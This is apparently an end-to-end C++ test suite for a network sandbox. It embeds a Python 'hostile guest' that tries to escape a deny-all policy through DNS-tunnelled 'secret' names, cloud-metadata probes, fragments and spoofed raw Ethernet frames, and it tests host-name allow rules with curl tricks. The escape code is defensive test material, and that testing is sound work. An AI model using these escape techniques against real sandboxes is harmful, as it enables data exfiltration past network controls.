// What the policy of a sandbox is worth, with real programs: a hostile guest under deny-all,
// of which nothing may be seen on the host's side; a sandbox that may reach one name and
// finds no way around it; a policy that is replaced while connections carry bytes.
#include <arpa/inet.h>
#include <gmock/gmock.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <atomic>
#include <cerrno>
#include <csignal>
#include <filesystem>
#include <future>
#include <map>
#include <nlohmann/json.hpp>
#include <sstream>
#include <string>
#include <vector>

#include "tests/support/places.h"
#include "tests/support/sandbox.h"

namespace penstock::e2e {
namespace {

using namespace std::chrono_literals;
using nlohmann::json;
using testing::HasSubstr;
using testing::Not;

// Every packet with a guest's payload that is seen in the calling thread's network
// namespace, on any interface, either way: TCP, UDP, echo, and whatever is a fragment.
// Neighbour discovery and group membership are the host's own.
class Sniffer final {
 public:
  Sniffer()
      : socket_(socket(AF_PACKET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, htons(ETH_P_ALL))) {
    if (socket_.get() < 0) ThrowErrno("no packet socket");
    const int bytes = 8 << 20;
    setsockopt(socket_.get(), SOL_SOCKET, SO_RCVBUFFORCE, &bytes, sizeof bytes);
  }
  // One line for each since the last call.
  std::vector<std::string> Seen() {
    std::vector<std::string> seen;
    std::array<uint8_t, 2'048> packet;
    for (;;) {
      sockaddr_ll from{};
      socklen_t from_bytes = sizeof from;
      const ssize_t length = recvfrom(socket_.get(), packet.data(), packet.size(), 0,
                                      reinterpret_cast<sockaddr*>(&from), &from_bytes);
      if (length < 0) return seen;
      const std::string line = Describe(std::span(packet).first(static_cast<size_t>(length)));
      if (!line.empty()) seen.push_back(line);
    }
  }

 private:
  static std::string Describe(std::span<const uint8_t> packet) {
    if (packet.size() >= 20 && packet[0] >> 4 == 4) {
      return "protocol " + std::to_string(packet[9]) + " from " +
             IpAddress::From(packet.subspan(12, 4)).ToString() + " to " +
             IpAddress::From(packet.subspan(16, 4)).ToString();
    }
    if (packet.size() < 41 || packet[0] >> 4 != 6) return "";
    constexpr uint8_t kFirstOfNoUse = 129;  // echo's two are 128 and 129
    const bool of_the_link =
        packet[6] == 0 || (packet[6] == IPPROTO_ICMPV6 && packet[40] > kFirstOfNoUse);
    if (of_the_link) return "";
    return "next header " + std::to_string(packet[6]) + " from " +
           IpAddress::From(packet.subspan(8, 16)).ToString() + " to " +
           IpAddress::From(packet.subspan(24, 16)).ToString();
  }

  Descriptor socket_;
};

// Attempts of a hostile guest, each on a port, at an address or with a name of its own, so
// that its event can be told from the others'. Prints one line for each: what the event has
// to say. Raw sockets put frames on the link past the guest's own kernel.
constexpr const char* kHostile = R"(
import socket, struct, time
SERVER4, SERVER6 = "198.18.0.1", "fd01::1"
V4, V6 = socket.AF_INET, socket.AF_INET6

def expect(**event):
    print(" ".join(f"{k}={v}" for k, v in event.items()), flush=True)

def tcp(family, address, port):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        try:
            s.connect((address, port))
            print("CONNECTED", address, port, flush=True)
        except OSError:
            pass
    peer = f"[{address}]:{port}" if ":" in address else f"{address}:{port}"
    expect(protocol="tcp", peer=peer)

def udp(family, address, port, data=b"leak", name=None):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.connect((address, port))
        try:
            s.send(data)
            s.recv(65535)
        except OSError:
            pass
    peer = f"[{address}]:{port}" if ":" in address else f"{address}:{port}"
    expect(**({"name": name} if name else {"protocol": "udp", "peer": peer}))

def question(name):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    head = struct.pack(">HHHHHH", 4660, 256, 1, 0, 0, 0)
    return head + labels + b"\0" + struct.pack(">HH", 16, 1)

def checksum(data):
    if len(data) % 2: data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff

def udp4(source, destination, port):
    body = struct.pack(">HHHH", 4000, port, 12, 0) + b"leak"
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), 7, 0, 64, 17, 0)
    head += socket.inet_aton(source) + socket.inet_aton(destination)
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + body

def udp6(source, destination, port):
    addresses = b"".join(socket.inet_pton(V6, a) for a in (source, destination))
    body = struct.pack(">HHHH", 4000, port, 12, 0) + b"leak"
    sum6 = checksum(addresses + struct.pack(">II", len(body), 17) + body)
    body = body[:6] + struct.pack(">H", sum6) + body[8:]
    return struct.pack(">IHBB", 0x60000000, len(body), 17, 64) + addresses + body

raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind(("tap0", 0))
own_mac, gateway_mac = raw.getsockname()[4], bytes.fromhex("52550a000202")
def frame(kind, packet, mac=own_mac):
    raw.send(gateway_mac + mac + struct.pack(">H", kind) + packet)

def ping(family, address):
    kind = socket.IPPROTO_ICMP if family == socket.AF_INET else socket.IPPROTO_ICMPV6
    with socket.socket(family, socket.SOCK_RAW, kind) as s:
        message = struct.pack(">BBHHH", 8 if family == V4 else 128, 0, 0, 77, 1) + b"leak"
        if family == socket.AF_INET:
            message = message[:2] + struct.pack(">H", checksum(message)) + message[4:]
        s.sendto(message, (address, 0))
    expect(protocol="icmp", peer=address)

# What every program may try.
tcp(V4, SERVER4, 1001); tcp(V6, SERVER6, 1002)
udp(V4, SERVER4, 1003); udp(V6, SERVER6, 1004)
ping(V4, SERVER4); ping(V6, SERVER6)
tcp(V4, "10.0.2.2", 1005); tcp(V6, "fd00::2", 1006)  # the gateway
udp(V4, "10.0.2.2", 1007); udp(V6, "fd00::2", 1008)
ping(V4, "10.0.2.2"); ping(V6, "fd00::2")
tcp(V4, "169.254.169.254", 80)                                                # metadata
tcp(V4, "192.168.7.7", 1009); tcp(V6, "fd00:ec2::254", 80)
# Names as a way out: in the question itself, by either transport, or of somebody else.
udp(V4, "10.0.2.3", 53, question("c2VjcmV0.one.test"), "c2vjcmv0.one.test")
udp(V6, "fd00::3", 53, question("c2VjcmV0.two.test"), "c2vjcmv0.two.test")
udp(V4, "10.0.2.2", 53, question("c2VjcmV0.three.test"), "c2vjcmv0.three.test")
with socket.create_connection(("10.0.2.3", 53), 3) as s:
    q = question("c2VjcmV0.four.test")
    s.sendall(struct.pack(">H", len(q)) + q)
    s.recv(4096)
expect(name="c2vjcmv0.four.test")
udp(V4, SERVER4, 53, question("c2VjcmV0.five.test")); tcp(V6, SERVER6, 53)
# In fragments.
udp(V4, SERVER4, 1010, b"leak" * 1000); udp(V6, SERVER6, 1011, b"leak" * 1000)
# As somebody else, to where nobody can be, past the kernel.
def false4(source, destination, port, layer, mac=own_mac):
    frame(0x0800, udp4(source, destination, port), mac)
    expect(peer=f"{destination}:{port}", layer=layer)

def false6(source, destination, port, layer):
    frame(0x86dd, udp6(source, destination, port))
    expect(peer=f"[{destination}]:{port}", layer=layer)

false4("10.0.2.99", SERVER4, 1012, "link")
false4("198.18.0.77", SERVER4, 1013, "link")
false6("2001:db8::9", SERVER6, 1014, "link")
false4("10.0.2.15", SERVER4, 1015, "link", bytes.fromhex("020000000009"))
false6("fd00::15", "::ffff:198.18.0.1", 1016, "address")
false6("fd00::15", "::1", 1017, "address")
false4("10.0.2.15", "127.0.0.1", 1018, "address")
false4("10.0.2.15", "169.254.7.7", 1019, "address")
time.sleep(0.3)  # the last of the frames are on their way
print("DONE", flush=True)
)";

class Policies : public ::testing::TestWithParam<Via> {
 protected:
  [[nodiscard]] static std::string Threads() { return GetParam() == Via::kOneThread ? "0" : "1"; }
  [[nodiscard]] std::vector<std::string> Penstock(std::vector<std::string> words) const {
    words.insert(words.begin(), ProgramPath("penstock"));
    return words;
  }
  std::vector<std::string> RunWords(const std::vector<std::string>& options,
                                    const std::vector<std::string>& command) const {
    std::vector<std::string> words = Penstock({"run", "--relay-threads", Threads()});
    words.insert(words.end(), options.begin(), options.end());
    words.emplace_back("--");
    words.insert(words.end(), command.begin(), command.end());
    return words;
  }

  World world_;
  TemporaryFolder folder_;
};

INSTANTIATE_TEST_SUITE_P(E2e, Policies, ::testing::Values(Via::kOneThread, Via::kRelayThread),
                         [](const auto& info) { return Name(info.param); });

// "a=b c=d" as a map.
std::map<std::string, std::string> Fields(const std::string& line) {
  std::map<std::string, std::string> fields;
  std::istringstream words(line);
  for (std::string word; words >> word;) {
    const size_t at = word.find('=');
    if (at != std::string::npos) fields[word.substr(0, at)] = word.substr(at + 1);
  }
  return fields;
}

bool Tells(const json& event, const std::map<std::string, std::string>& fields) {
  if (event["event"] != "denied") return false;
  return std::ranges::all_of(fields, [&](const auto& field) {
    return event.contains(field.first) && event[field.first] == field.second;
  });
}

// Whether `path` comes to be in time.
void WaitForFile(const std::string& path) {
  for (int i = 0; i < 1'000 && !std::filesystem::exists(path); ++i) usleep(10'000);
  if (!std::filesystem::exists(path)) throw std::runtime_error("there is no " + path);
}

TEST_P(Policies, DenyAllLeaksNothing) {
  // Whoever is reached by what gets out.
  const std::string control = folder_ / "control", go = folder_ / "go", ready = folder_ / "ready";
  WriteFile(folder_ / "hostile.py", kHostile);
  // Frames that the guest's kernel would not send, too, so the sandbox begins when told.
  Pipe output;
  Process sandbox(
      RunWords({"--profile", "none", "--control", control, "--no-denials"},
               {"sh", "-c",
                "touch " + ready + "; while [ ! -e " + go +
                    " ]; do sleep 0.05; done; exec python3 " + (folder_ / "hostile.py")}),
      {.output = output.writing_end.get()});
  output.writing_end.Close();
  WaitForFile(ready);
  Pipe events;
  Process watcher(Penstock({"events", "--control", control, "--json"}),
                  {.output = events.writing_end.get()});
  events.writing_end.Close();
  // It is heard once it was told of something.
  const auto read_to_end = [](const Descriptor& from) {
    std::string text;
    std::array<char, 4'096> bytes;
    for (ssize_t n; (n = read(from.get(), bytes.data(), bytes.size())) != 0;) {
      if (n < 0 && errno != EINTR) ThrowErrno("read");
      if (n > 0) text.append(bytes.data(), static_cast<size_t>(n));
    }
    return text;
  };
  auto told = Concurrently([&] { return read_to_end(events.reading_end); });
  // The subscription is there before the guest moves: an order is answered after it.
  for (int i = 0; i < 20; ++i) {
    (void)RunCommand(Penstock({"policy", "show", "--control", control}));
  }
  Sniffer host;
  (void)host.Seen();
  WriteFile(go, "");
  const std::string attempts = read_to_end(output.reading_end);
  EXPECT_EQ(sandbox.Wait(60s), 0) << attempts;
  EXPECT_THAT(attempts, HasSubstr("DONE"));
  EXPECT_THAT(attempts, Not(HasSubstr("CONNECTED")));
  const std::vector<std::string> seen = host.Seen();
  EXPECT_TRUE(seen.empty()) << seen.size() << " packets, the first: " << seen.front();

  (void)watcher.Wait(10s);  // ends with the sandbox
  std::vector<json> denied;
  std::istringstream lines(told.get());
  for (std::string line; std::getline(lines, line);) denied.push_back(json::parse(line));
  size_t count = 0;
  std::istringstream expected(attempts);
  for (std::string line; std::getline(expected, line);) {
    const auto fields = Fields(line);
    if (fields.empty()) continue;
    ++count;
    EXPECT_TRUE(
        std::ranges::any_of(denied, [&](const json& event) { return Tells(event, fields); }))
        << "no event tells of: " << line;
  }
  EXPECT_EQ(count, 31u) << attempts;
}

// ---------------------------------------------------------------- one name and no other

// A web server outside, by HTTP and HTTPS, for whatever name it is asked.
class OneName : public Policies {
 protected:
  void SetUp() override {
    const std::string key = folder_ / "key.pem", certificate = folder_ / "certificate.pem";
    RunOrThrow({"openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
                "-nodes", "-days", "2", "-subj", "/CN=any", "-keyout", key, "-out", certificate});
    WriteFile(folder_ / "nginx.conf",
              "daemon off; master_process off; pid " + (folder_ / "nginx.pid") +
                  ";\nerror_log stderr;\n"
                  "events {}\nhttp { access_log off;\n" +
                  Temporaries() +
                  "server { listen 80; listen [::]:80; listen 443 ssl; listen [::]:443 ssl;\n"
                  "ssl_certificate " +
                  certificate + "; ssl_certificate_key " + key +
                  ";\n"
                  "location / { return 200 \"this is $host\\n\"; } } }\n");
    server_ = Process({"nginx", "-p", folder_ / "", "-c", folder_ / "nginx.conf"},
                      {.network_namespace = world_.outside().descriptor()});
    const InNamespace outside(world_.outside().descriptor());
    for (int i = 0; i < 500; ++i) {
      TcpSocket probe(Family::kIpv4);
      if (probe.TryConnect({IpAddress::V4(127, 0, 0, 1), 443}) == 0) return;
      usleep(10'000);
    }
    throw std::runtime_error("nginx does not listen");
  }
  std::string Temporaries() {
    std::string text;
    for (const char* kind : {"client_body", "proxy", "fastcgi", "uwsgi", "scgi"}) {
      text += std::string(kind) + "_temp_path " + (folder_ / "") + ";\n";
    }
    return text;
  }
  // What the commands, a line each, print in one sandbox: its exit status behind each.
  std::string Try(const std::vector<std::string>& options, const std::string& script) {
    std::vector<std::string> all{
        "--dns-host", "example.test=198.18.0.1", "--dns-host",  "example.test=fd01::1",
        "--dns-host", "other.test=198.18.0.1",   "--no-denials"};
    all.insert(all.end(), options.begin(), options.end());
    const CommandResult result = RunCommand(RunWords(all, {"sh", "-c", kTry + script}));
    EXPECT_EQ(result.status, 0) << result.output;
    return result.output;
  }
  // "try LABEL CURL-ARGUMENTS": what it printed, then its status.
  static constexpr const char* kTry =
      "try() { label=$1; shift; text=$(curl -sk --max-time 8 \"$@\"); "
      "echo \"$label: $text ($?)\"; }\n";

  Process server_;
};

INSTANTIATE_TEST_SUITE_P(E2e, OneName, ::testing::Values(Via::kOneThread, Via::kRelayThread),
                         [](const auto& info) { return Name(info.param); });

TEST_P(OneName, IsReachedByItsNameOnly) {
  const std::string output =
      Try({"--allow", "example.test"},
          // Before anybody asked for it, its address is nobody's.
          "try forged4 --resolve example.test:443:198.18.0.1 https://example.test/\n"
          "try forged6 --resolve example.test:443:[fd01::1] https://example.test/\n"
          "try address http://198.18.0.1/\n"
          "try http4 -4 http://example.test/\n"
          "try http6 -6 http://example.test/\n"
          "try https4 -4 https://example.test/\n"
          "try https6 -6 https://example.test/\n"
          // The address is known now; the name is another one.
          "try other-https --resolve other.test:443:198.18.0.1 https://other.test/\n"
          "try other-http --resolve other.test:80:198.18.0.1 http://other.test/\n"
          "try other-host -H 'Host: other.test' http://example.test/\n"
          "try other-name http://other.test/\n"
          "try again -4 https://example.test/\n");
  EXPECT_THAT(output, HasSubstr("http4: this is example.test (0)\n"));
  EXPECT_THAT(output, HasSubstr("http6: this is example.test (0)\n"));
  EXPECT_THAT(output, HasSubstr("https4: this is example.test (0)\n"));
  EXPECT_THAT(output, HasSubstr("https6: this is example.test (0)\n"));
  EXPECT_THAT(output, HasSubstr("again: this is example.test (0)\n"));
  // curl(1): 6 is a name that there is not, 7 a refused connect, 35 and 56 a reset in TLS's
  // handshake and while receiving.
  EXPECT_THAT(output, HasSubstr("forged4:  (7)\n"));
  EXPECT_THAT(output, HasSubstr("forged6:  (7)\n"));
  EXPECT_THAT(output, HasSubstr("address:  (7)\n"));
  EXPECT_THAT(output, HasSubstr("other-https:  (35)\n"));
  EXPECT_THAT(output, HasSubstr("other-http:  (56)\n"));
  EXPECT_THAT(output, HasSubstr("other-host:  (56)\n"));
  EXPECT_THAT(output, HasSubstr("other-name:  (6)\n"));
}

TEST_P(OneName, OrAllButOne) {
  const std::string output =
      Try({"--profile", "all", "--deny", "other.test"},
          "try one http://example.test/\n"
          "try other-name http://other.test/\n"
          "try other-https --resolve other.test:443:198.18.0.1 https://other.test/\n"
          "try other-http --resolve other.test:80:198.18.0.1 http://other.test/\n"
          "try address -k https://198.18.0.1/\n");
  EXPECT_THAT(output, HasSubstr("one: this is example.test (0)\n"));
  EXPECT_THAT(output, HasSubstr("other-name:  (6)\n"));
  EXPECT_THAT(output, HasSubstr("other-https:  (35)\n"));
  EXPECT_THAT(output, HasSubstr("other-http:  (56)\n"));
  EXPECT_THAT(output, HasSubstr("address: this is 198.18.0.1 (0)\n"));
}

TEST_P(OneName, ADenialByAPageCanBeRead) {
  const std::string output =
      Try({"--allow", "example.test", "--on-denial", "page"},
          "try at-once http://198.18.0.1/\n"
          "try one http://example.test/\n"
          "try by-name -w '%{http_code}' --resolve other.test:80:198.18.0.1 http://other.test/\n"
          "try tls --resolve other.test:443:198.18.0.1 https://other.test/\n");
  EXPECT_THAT(output, HasSubstr("at-once: The network policy of this sandbox"));
  EXPECT_THAT(output, HasSubstr("one: this is example.test (0)\n"));
  EXPECT_THAT(output, HasSubstr("by-name: The network policy of this sandbox"));
  EXPECT_THAT(output, HasSubstr("can allow it.\n403 (0)\n"));
  EXPECT_THAT(output, HasSubstr("tls:  (35)\n"));
}

// ---------------------------------------------------------------- replaced under load

// 16 connections to one port of the host's, 16 to another, all of them carrying bytes when the
// second port is denied and its connections are cut.
class Replaced : public ::testing::TestWithParam<SandboxCase> {
 protected:
  static constexpr int kEach = 16;
  World world_;
  TemporaryFolder folder_;
  const std::string control_ = folder_ / "control";
  Sandbox sandbox_{{.via = GetParam().via, .penstock_options = {"--control", control_}}};

  CommandResult Set(const std::string& text, std::vector<std::string> options) {
    WriteFile(folder_ / "rules", text);
    std::vector<std::string> words{ProgramPath("penstock"), "policy", "set", "--control", control_};
    words.insert(words.end(), options.begin(), options.end());
    words.push_back(folder_ / "rules");
    return RunCommand(words);
  }
  struct Pair {
    TcpSocket guest, host;
  };
  Pair Open(TcpListener& listener) {
    TcpSocket guest = sandbox_.GuestSocket(GetParam().family);
    guest.Connect(Sandbox::Gateway(GetParam().family, listener.port()));
    return {std::move(guest), listener.Accept()};
  }
  // Both ways, whole; `half_way` is counted when some of it is through.
  void StartTransfer(Pair& pair, uint64_t seed) {
    constexpr uint64_t kBytes = 24 << 20;
    const Stream up{.seed = 2 * seed, .bytes = kBytes};
    const Stream down{.seed = 2 * seed + 1, .bytes = kBytes};
    tasks_.push_back(Concurrently([this, &pair, up, down] {
      Perform(pair.guest, {.send = up, .receive = down, .hook_after = kBytes / 8, .hook = [this] {
                             ++half_way_;
                           }});
    }));
    tasks_.push_back(
        Concurrently([&pair, up, down] { Perform(pair.host, {.send = down, .receive = up}); }));
  }
  // From the guest without an end, until it is reset at both.
  void StartEndless(Pair& pair) {
    ends_.push_back(Concurrently([&pair] {
      const std::vector<uint8_t> bytes(65'536);
      try {
        for (;;) (void)pair.guest.Send(bytes);
      } catch (const std::system_error& error) {
        return error.code().value();
      }
    }));
    tasks_.push_back(Concurrently([&pair] {
      std::vector<uint8_t> bytes(65'536);
      try {
        while (pair.host.Receive(bytes) != 0) continue;
      } catch (const std::system_error&) {
        return;  // reset: as it has to be
      }
      throw std::runtime_error("a cut transfer looks like a whole one");
    }));
  }

  std::atomic<int> half_way_{0};
  std::vector<std::future<void>> tasks_;
  std::vector<std::future<int>> ends_;  // the errno
};

INSTANTIATE_TEST_SUITE_P(E2e, Replaced, ::testing::ValuesIn(PenstockCases()), CaseName);

TEST_P(Replaced, NewFlowsSeeItDeniedOnesAreCutOthersAreNotTouched) {
  TcpListener kept, cut;
  std::vector<Pair> kept_pairs, cut_pairs;
  for (int i = 0; i < kEach; ++i) {
    kept_pairs.push_back(Open(kept));
    cut_pairs.push_back(Open(cut));
  }
  for (size_t i = 0; i < kEach; ++i) {
    StartTransfer(kept_pairs[i], i);
    StartEndless(cut_pairs[i]);
  }
  while (half_way_ < kEach) usleep(1'000);

  const std::string rule =
      "deny egress @host:" + std::to_string(cut.port()) + "\ndefault egress allow\n";
  const CommandResult set =
      Set("allow egress @host:" + std::to_string(kept.port()) + "\n" + rule, {"--reset"});
  ASSERT_EQ(set.status, 0) << set.output;
  TcpSocket fresh = sandbox_.GuestSocket(GetParam().family);
  EXPECT_EQ(fresh.TryConnect(Sandbox::Gateway(GetParam().family, cut.port())), ECONNREFUSED);
  for (auto& end : ends_) {
    const int error = end.get();
    EXPECT_TRUE(error == ECONNRESET || error == EPIPE) << error;
  }
  for (auto& task : tasks_) task.get();
  EXPECT_EQ(sandbox_.ReadStats()["flows_cut"], static_cast<uint64_t>(kEach));
  // And back again.
  ASSERT_EQ(Set("allow egress @host\ndefault egress allow\n", {}).status, 0);
  Pair again = Open(cut);
  again.guest.SendAll("hello");
  again.guest.ShutdownSending();
  EXPECT_EQ(again.host.ReceiveToEnd(), "hello");
}

}  // namespace
}  // namespace penstock::e2e
